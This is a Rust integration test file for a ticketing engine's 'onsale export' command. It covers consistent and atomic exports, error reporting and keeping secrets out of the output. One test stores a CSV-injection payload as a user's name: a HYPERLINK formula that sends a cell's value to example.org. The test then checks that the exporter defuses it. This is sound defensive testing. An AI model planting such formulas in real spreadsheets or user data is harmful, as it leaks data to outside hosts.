//! `onsale export` as an operator meets it: of a running engine and of a stopped one, whole or not at all.
#![allow(clippy::unwrap_used, clippy::as_conversions, reason = "a test fails by panicking")]

#[path = "support/server.rs"]
mod server;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use onsale::export::{SCHEMA_VERSION, Table};
use reqwest::Method;
use rusqlite::{Connection, OpenFlags};
use serde_json::{Value, json};
use tempfile::TempDir;

use server::{ADMIN, Server};

/// Runs `onsale export --to <to>` with these arguments and no settings of whoever runs the test.
fn export(to: &Path, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_onsale"))
        .args(["export", "--to"])
        .arg(to)
        .args(arguments)
        .env_clear()
        .env("ONSALE_JOURNAL_RESERVE_BYTES", "0")
        .env("ONSALE_ADMIN_TOKEN", ADMIN)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[track_caller]
fn ended(output: &Output, code: i32) -> (String, String) {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    let (out, err) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(code), "{out}\n{err}");
    assert!(!err.contains("panicked"), "{err}");
    (out, err)
}

/// A server's directory, and one for exports beside it.
struct Stage(TempDir);

impl Stage {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn data(&self) -> PathBuf {
        self.0.path().join("data")
    }

    fn to(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }
}

/// Puts something in every table: signs up, charges, holds, pays, cancels.
async fn sell(server: &Server) -> String {
    server.prepare(20, json!({"maxSeatsPerUser": 20})).await;
    let sign_up =
        json!({"email": "kim@example.org", "name": "Kim, \"the\" fan", "password": "correct horse battery"});
    let (status, user) = server.admin(Method::POST, "/api/v1/users", Some(sign_up)).await;
    assert_eq!(status, 201, "{user}");
    let kim = user["userId"].as_str().unwrap().to_owned();
    for user in [kim.as_str(), "lee"] {
        let path = format!("/api/v1/users/{user}/balance");
        assert_eq!(server.admin(Method::POST, &path, Some(json!({"amount": 300_000}))).await.0, 201);
    }
    let hold = async |user: &str, seats: &[&str]| -> Value {
        let body = json!({"scheduleId": "s", "seats": seats});
        let (status, held) = server.user(user, Method::POST, "/api/v1/reservations", Some(body)).await;
        assert_eq!(status, 201, "{held}");
        held["reservationId"].clone()
    };
    let pay = async |user: &str, reservation: &Value| {
        let request = server.request(Method::POST, "/api/v1/payments").bearer_auth(server::token(user));
        let request =
            request.header("idempotency-key", format!("a-key-for-{}", reservation.as_str().unwrap()));
        let body = json!({"reservationId": reservation, "method": "balance"});
        assert_eq!(request.json(&body).send().await.unwrap().status().as_u16(), 201);
    };
    let kept = hold(&kim, &["1-A-1-1", "1-A-1-2"]).await;
    pay(&kim, &kept).await;
    let given_back = hold("lee", &["1-A-1-5"]).await;
    pay("lee", &given_back).await;
    let path = format!("/api/v1/reservations/{}", given_back.as_str().unwrap());
    assert_eq!(server.user("lee", Method::DELETE, &path, None).await.0, 200);
    hold("stranger", &["1-A-1-9"]).await;
    let block = json!({"seats": ["1-A-1-20"]});
    assert_eq!(server.admin(Method::POST, "/api/v1/schedules/s/block", Some(block)).await.0, 200);
    kim
}

fn open(dir: &Path) -> Connection {
    Connection::open_with_flags(dir.join("onsale.sqlite"), OpenFlags::SQLITE_OPEN_READ_ONLY).unwrap()
}

/// What a query says, a text a row.
fn query(database: &Connection, sql: &str) -> Vec<String> {
    let mut statement = database.prepare(sql).unwrap();
    let columns = statement.column_count();
    let row = |row: &rusqlite::Row<'_>| {
        let values = (0..columns).map(|column| row.get::<_, rusqlite::types::Value>(column).unwrap());
        let shown = values.map(|value| match value {
            rusqlite::types::Value::Null => String::new(),
            rusqlite::types::Value::Integer(number) => number.to_string(),
            rusqlite::types::Value::Text(text) => text,
            other @ (rusqlite::types::Value::Real(_) | rusqlite::types::Value::Blob(_)) => {
                panic!("{other:?}")
            }
        });
        Ok(shown.collect::<Vec<_>>().join("|"))
    };
    statement.query_map([], row).unwrap().map(Result::unwrap).collect()
}

/// Checks the files against each other, and returns the rows of every table but `meta`, in order.
fn check(dir: &Path) -> BTreeMap<&'static str, Vec<String>> {
    let database = open(dir);
    assert_eq!(query(&database, "PRAGMA foreign_key_check"), Vec::<String>::new());
    assert_eq!(query(&database, "PRAGMA integrity_check"), ["ok"]);
    assert_eq!(query(&database, "PRAGMA user_version"), [SCHEMA_VERSION.to_string()]);
    let mut tables = BTreeMap::new();
    for table in Table::ALL {
        let rows = query(&database, &format!("SELECT * FROM \"{}\" ORDER BY rowid", table.name()));
        let bytes = fs::read(dir.join(format!("{}.csv", table.name()))).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let names: Vec<&str> = table.schema().column_names().collect();
        assert_eq!(reader.headers().unwrap(), names, "{}", table.name());
        let records: Vec<String> =
            reader.records().map(|record| record.unwrap().iter().collect::<Vec<_>>().join("|")).collect();
        assert_eq!(records, rows, "{}", table.name());
        if table != Table::Meta {
            tables.insert(table.name(), rows);
        }
    }
    let files = fs::read_dir(dir).unwrap().count();
    assert_eq!(files, Table::ALL.len() + 1, "nothing else is left");
    tables
}

#[tokio::test]
async fn a_spreadsheet_runs_nothing_that_people_chose_and_a_program_reads_it_as_it_is() {
    let stage = Stage::new();
    let server = Server::start(&stage.data());
    server.prepare(4, json!({})).await;
    let formula = "=HYPERLINK(\"https://example.org?\"&A1)";
    let sign_up = json!({"email": "mal@example.org", "name": formula, "password": "correct horse battery"});
    assert_eq!(server.admin(Method::POST, "/api/v1/users", Some(sign_up)).await.0, 201);
    let body = json!({"scheduleId": "s", "bestAvailable": {"count": 1}});
    assert_eq!(server.user("@who", Method::POST, "/api/v1/reservations", Some(body)).await.0, 201);

    let (to, url) = (stage.to("books"), server.url.clone());
    let cells = |arguments: &[&str]| {
        ended(&export(&to, &[&["--url", &url, "--overwrite"], arguments].concat()), 0);
        let bytes = fs::read(to.join("users.csv")).unwrap();
        let text: BTreeSet<String> = csv::Reader::from_reader(bytes.as_slice())
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        (bytes.starts_with(b"\xef\xbb\xbf"), text)
    };
    let (marked, safe) = cells(&[]);
    assert!(marked && safe.contains(&format!("'{formula}")) && safe.contains("'@who"), "{safe:?}");
    assert!(!safe.iter().any(|cell| cell.starts_with(['=', '+', '-', '@'])), "{safe:?}");
    let (marked, raw) = cells(&["--raw-csv"]);
    assert!(!marked && raw.contains(formula) && raw.contains("@who"), "{raw:?}");
    let names = query(&open(&to), "SELECT name FROM users WHERE name IS NOT NULL");
    assert_eq!(names, [formula], "SQLite has it as it is");
}

fn assert_no_secret(dir: &Path) {
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let bytes = fs::read(&path).unwrap();
        let has = |text: &str| bytes.windows(text.len()).any(|window| window == text.as_bytes());
        for secret in ["$argon2", "argon2", "a-key-for-", "correct horse", ADMIN, server::SECRET] {
            assert!(!has(secret), "{} holds {secret}", path.display());
        }
    }
}

#[tokio::test]
async fn a_running_engine_and_a_stopped_one_are_exported_as_the_same_tables() {
    let stage = Stage::new();
    let server = Server::start(&stage.data());
    let kim = sell(&server).await;
    let (to, url) = (stage.to("running"), server.url.clone());
    let (out, err) = ended(&export(&to, &["--url", &url]), 0);
    assert!(out.starts_with("exported ") && out.contains(" rows of 26 tables at position "), "{out}");
    assert_eq!(err, "", "no bar where nobody looks");
    let running = check(&to);
    assert_no_secret(&to);

    let database = open(&to);
    let counts: Vec<(&str, usize)> = running.iter().map(|(name, rows)| (*name, rows.len())).collect();
    assert_eq!(
        counts,
        [
            ("accounts", 2),
            ("allotment_areas", 0),
            ("allotment_seats", 0),
            ("allotments", 0),
            ("areas", 0),
            ("codes", 0),
            ("concerts", 1),
            ("fees", 0),
            ("grade_prices", 0),
            ("grades", 1),
            ("orders", 0),
            ("payments", 2),
            ("price_types", 0),
            ("reservation_areas", 0),
            ("reservation_lines", 3),
            ("reservation_seats", 4),
            ("reservations", 3),
            ("schedules", 1),
            ("seats", 20),
            ("transactions", 5),
            ("users", 3),
            ("venue_areas", 0),
            ("venue_rows", 1),
            ("venue_sections", 1),
            ("venues", 1),
        ]
    );
    let sums = "SELECT status, count(*), sum(amount), currency FROM payments GROUP BY status ORDER BY status";
    assert_eq!(query(&database, sums), ["completed|1|100000|KRW", "refunded|1|50000|KRW"]);
    let seats = "SELECT status, count(*) FROM seats GROUP BY status ORDER BY status";
    assert_eq!(query(&database, seats), ["available|16", "blocked|1", "held|1", "reserved|2"]);
    let accounts = "SELECT balance = (SELECT sum(CASE type WHEN 'payment' THEN -amount ELSE amount END) \
                    FROM transactions WHERE transactions.user_id = accounts.user_id), balance FROM accounts ORDER BY user_id";
    assert_eq!(query(&database, accounts), ["1|300000", "1|200000"]);
    let people = "SELECT user_id, email, name, status FROM users WHERE name IS NOT NULL";
    assert_eq!(query(&database, people), [format!("{kim}|kim@example.org|Kim, \"the\" fan|active")]);
    let position: u64 = query(&database, "SELECT position FROM meta")[0].parse().unwrap();
    assert!(out.contains(&format!("at position {position}, ")), "{out}");
    let plan = query(&database, "EXPLAIN QUERY PLAN SELECT * FROM payments WHERE user_id = 'x'");
    assert!(plan[0].contains("payments_by_user_id"), "{plan:?}");

    assert!(server.terminate().success());
    let data = stage.data().to_str().unwrap().to_owned();
    let stopped = stage.to("stopped");
    ended(&export(&stopped, &["--data-dir", &data]), 0);
    let mut stopped = check(&stopped);
    // The outage moved the hold's deadline, and nothing else.
    let mut running = running;
    let moved = |tables: &mut BTreeMap<&'static str, Vec<String>>| {
        let rows = tables.get_mut("reservations").unwrap();
        let hold = rows.iter().position(|row| row.contains("|held|")).unwrap();
        rows.remove(hold)
    };
    assert!(moved(&mut running).ends_with("|0") && moved(&mut stopped).ends_with("|1"));
    assert_eq!(running, stopped);
}

#[tokio::test]
async fn an_export_is_replaced_only_when_that_is_asked_for() {
    let stage = Stage::new();
    let server = Server::start(&stage.data());
    server.prepare(4, json!({})).await;
    let to = stage.to("books");
    fs::create_dir(&to).unwrap();
    let url = server.url.clone();
    ended(&export(&to, &["--url", &url]), 0);
    let before = fs::read(to.join("onsale.sqlite")).unwrap();
    let (_, err) = ended(&export(&to, &["--url", &url]), 2);
    assert!(err.contains("holds an export already") && err.contains("--overwrite"), "{err}");
    assert_eq!(fs::read(to.join("onsale.sqlite")).unwrap(), before);

    let body = json!({"scheduleId": "s", "bestAvailable": {"count": 2}});
    assert_eq!(server.user("lee", Method::POST, "/api/v1/reservations", Some(body)).await.0, 201);
    fs::write(to.join("notes.txt"), "mine").unwrap();
    // What a killed run left is no export.
    fs::create_dir(to.join("onsale-export.partial-7")).unwrap();
    fs::write(to.join("onsale-export.partial-7/seats.csv"), "half").unwrap();
    ended(&export(&to, &["--url", &url, "--overwrite"]), 0);
    assert_eq!(fs::read_to_string(to.join("notes.txt")).unwrap(), "mine");
    fs::remove_file(to.join("notes.txt")).unwrap();
    assert_eq!(check(&to)["reservations"].len(), 1);
}

#[tokio::test]
async fn who_may_not_and_what_is_not_there_are_told() {
    let stage = Stage::new();
    let server = Server::start(&stage.data());
    let (to, url) = (stage.to("books"), server.url.clone());
    let (_, err) = ended(&export(&to, &["--url", &url, "--admin-token", &"x".repeat(40)]), 1);
    assert!(err.contains("401 unauthenticated"), "{err}");
    assert!(!to.exists());
    server.kill();
    let (_, err) = ended(&export(&to, &["--url", &url]), 1);
    assert!(err.contains("can't be reached"), "{err}");
    assert!(!to.exists());
    let output = Command::new(env!("CARGO_BIN_EXE_onsale")).arg("export").env_clear().output().unwrap();
    assert!(ended(&output, 2).1.contains("--to"));
    fs::write(&to, "a file").unwrap();
    assert!(ended(&export(&to, &["--url", &url]), 1).1.contains("can't be written"));
}

/// Answers one request with these bytes, and closes the connection.
fn answering(answer: Vec<u8>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut request = Vec::new();
        while !request.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte).unwrap();
            request.push(byte[0]);
        }
        stream.write_all(&answer).unwrap();
    });
    url
}

#[tokio::test]
async fn a_stream_that_is_cut_anywhere_leaves_nothing_that_looks_like_an_export() {
    let stage = Stage::new();
    let server = Server::start(&stage.data());
    sell(&server).await;
    let request = server.request(Method::GET, "/api/v1/admin/export").bearer_auth(ADMIN);
    let response = request.send().await.unwrap();
    assert_eq!(response.headers()["content-type"], "application/x-ndjson");
    let whole = response.bytes().await.unwrap();
    let head = |length: usize| {
        format!("HTTP/1.1 200 OK\r\ncontent-type: application/x-ndjson\r\ncontent-length: {length}\r\n\r\n")
            .into_bytes()
    };
    let check = |answer: Vec<u8>, reason: &str| {
        let (to, url) = (stage.to("books"), answering(answer));
        let (out, err) = ended(&export(&to, &["--url", &url]), 1);
        assert!(out.is_empty() && err.contains(reason), "{reason}: {out}\n{err}");
        assert!(!to.exists(), "{reason}");
    };
    let lines: Vec<&[u8]> = whole.split_inclusive(|byte| *byte == b'\n').collect();
    for kept in [0, 1, lines.len() / 2, lines.len() - 1] {
        let part = lines[..kept].concat();
        // The connection breaks, or the answer ends as if that were all.
        check([head(whole.len()), part.clone()].concat(), "broke off its answer");
        check([head(part.len()), part].concat(), "its last line is missing");
    }
    let in_a_line = &whole[..whole.len() / 2];
    check([head(in_a_line.len()), in_a_line.to_vec()].concat(), "its last line is missing");
    let failed = [lines[0], &b"{\"failure\":\"it is stopping\"}\n"[..]].concat();
    check([head(failed.len()), failed].concat(), "couldn't finish the export: it is stopping");
    let less = [&lines[..lines.len() - 2], &lines[lines.len() - 1..]].concat().concat();
    check([head(less.len()), less].concat(), "it counts other rows than came");

    // A row that names another which isn't there is found, too.
    let text = String::from_utf8(whole.to_vec()).unwrap();
    let broken = text.replace("[\"accounts\",\"lee\"", "[\"accounts\",\"nobody\"").into_bytes();
    check([head(broken.len()), broken].concat(), "contradict each other");

    let (to, url) = (stage.to("books"), answering([head(whole.len()), whole.to_vec()].concat()));
    ended(&export(&to, &["--url", &url]), 0);
}
